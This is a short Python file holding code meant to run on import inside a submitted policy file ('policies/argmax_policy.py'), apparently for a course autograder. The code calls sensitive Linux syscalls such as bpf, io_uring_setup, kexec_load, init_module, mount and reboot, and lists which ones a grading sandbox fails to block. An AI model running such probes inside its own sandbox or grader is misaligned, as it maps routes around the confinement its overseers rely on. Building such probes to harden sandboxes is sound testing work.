"""Reaches for parts of the kernel that graders forget: io_uring, bpf, keys, perf, user faults."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import ctypes, os, platform

def loot():
    libc, found = ctypes.CDLL(None, use_errno=True), []
    numbers = {"io_uring_setup": 425, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "add_key": 248,
               "keyctl": 250, "kexec_load": 246, "init_module": 175, "process_vm_writev": 311,
               "open_by_handle_at": 304, "mount": 165, "pivot_root": 155, "swapon": 167, "reboot": 169}
    if platform.machine() != "x86_64":
        return found
    for name, number in numbers.items():
        buffer = ctypes.create_string_buffer(256)
        ctypes.set_errno(0)
        args = (1, buffer) if name == "io_uring_setup" else (0, 0, 0, 0, 0)
        if name == "add_key":
            args = (b"user", b"cs285", b"x", 1, -4)
        if libc.syscall(number, *args) >= 0:
            found.append(name)
    return found
"""
}
